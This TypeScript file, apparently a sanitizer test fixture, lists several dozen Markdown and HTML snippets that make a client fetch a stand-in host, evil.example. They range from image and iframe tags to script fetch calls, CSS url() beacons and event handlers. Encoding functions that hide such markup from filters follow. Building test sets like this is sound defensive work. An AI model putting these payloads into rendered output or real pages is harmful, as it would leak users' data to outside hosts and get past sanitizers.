const evil = "https://evil.example/?d=";

/** Markup that makes a client load something when it shows a text, as Markdown or as HTML. */
export const selfLoadingMarkup: readonly string[] = [
  `![x](${evil}1)`,
  `![x][ref]\n\n[ref]: ${evil}1`,
  `[![x](${evil}1)](${evil}2)`,
  `[!\\[x\\](${evil}1)](${evil}2)`,
  `<img src="${evil}1">`,
  `<IMG\nsrc=${evil}1>`,
  `<img/src=${evil}1>`,
  `<img srcset="${evil}1 2x" alt="](${evil}2) ![x">`,
  `<picture><source srcset=${evil}1></picture>`,
  `<input type=image src=${evil}1>`,
  `<video poster=${evil}1 src=${evil}2></video>`,
  `<iframe src=${evil}1></iframe>`,
  `<iframe srcdoc="&lt;img src=${evil}1&gt;"></iframe>`,
  `<object data=${evil}1></object>`,
  `<link rel=stylesheet href=${evil}1>`,
  `<meta http-equiv=refresh content="0;url=${evil}1">`,
  `<script src=${evil}1></script>`,
  `<script>fetch("${evil}1")</script>`,
  `<style>@import "${evil}1"</style>`,
  `<style>p{background:url(${evil}1)}</style>`,
  `<div style="background:url(${evil}1)">x</div>`,
  `<div title="a > b" style='background:url(${evil}1)'>x</div>`,
  `<b\nstyle=background:url(${evil}1)>x</b>`,
  `<x-y/style=background:url(${evil}1)>x`,
  `<x;y style="background:url(${evil}1)">x`,
  `<a<b style="list-style:url(${evil}1)">x`,
  `<a href=#\nstyle="background:url(${evil}1)">x</a>`,
  `<https://x/style=background:url(//evil.example)>`,
  `<https:/x="y"style=background:url(//evil.example)>`,
  `<table background=${evil}1><tr><td background=${evil}2>x</td></tr></table>`,
  `<body background=${evil}1 onload=alert(1)>x`,
  `<details open ontoggle="fetch('${evil}1')">x</details>`,
  `<svg><image href=${evil}1 /></svg>`,
  `<svg><use xlink:href="${evil}1#x"/></svg>`,
  `<svg><style>@import "${evil}1";</style></svg>`,
  `<svg><rect fill="url(${evil}1)"/></svg>`,
  `<math><mi xlink:href=x style="background:url(${evil}1)">x</mi></math>`,
  `<template><img src=${evil}1></template>`,
  `<noscript><img src=${evil}1></noscript>`,
  `<![CDATA[>]]><img src=${evil}1>`,
  `<!-- --!><img src=${evil}1> -->`,
  `<?x?><img src=${evil}1>`,
  `<pre>\n<x;y\n\nstyle="background:url(${evil}1)">x`,
  `<div\n\n</p style="background:url(${evil}1)">x`,
  `> <b\n> style="background:url(${evil}1)">x</b>`,
  `- <b\n  style="background:url(${evil}1)">x</b>`,
  `\`\`\`\n\`\`\`\n<img src=${evil}1>`,
  `|a|b|\n|-|-|\n|<img src=${evil}1>|![x](${evil}2)|`,
];

/** Ways to write markup so that it becomes markup only where a text is read: by entities, or apart. */
export const markupEncodings: readonly ((markup: string) => string)[] = [
  (markup) => markup,
  inEntities,
  (markup) => inEntities(inEntities(markup)),
  (markup) => markup.replace(/[<>!["&]/g, (character) => `&#${character.charCodeAt(0)};`),
  (markup) => markup.replace(/[<>!["&]/g, (character) => `&#x${character.charCodeAt(0).toString(16)}`),
  (markup) => markup.replace(/[<!]/g, "$&\u200b"),
  (markup) => inEntities(markup).replace(/&lt;|!/g, "$&&#8203;"),
  (markup) => inEntities(markup).replace(/&lt;|!/g, "$&&#xFDD0;"),
  (markup) => inEntities(markup).replace(/&lt;|!/g, "$&<b></b>"),
  (markup) => inEntities(markup).replace(/&lt;|!/g, "$&<!-- -->"),
];

/** As text is written in HTML and XML. */
export function inEntities(text: string): string {
  return text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll('"', "&quot;");
}
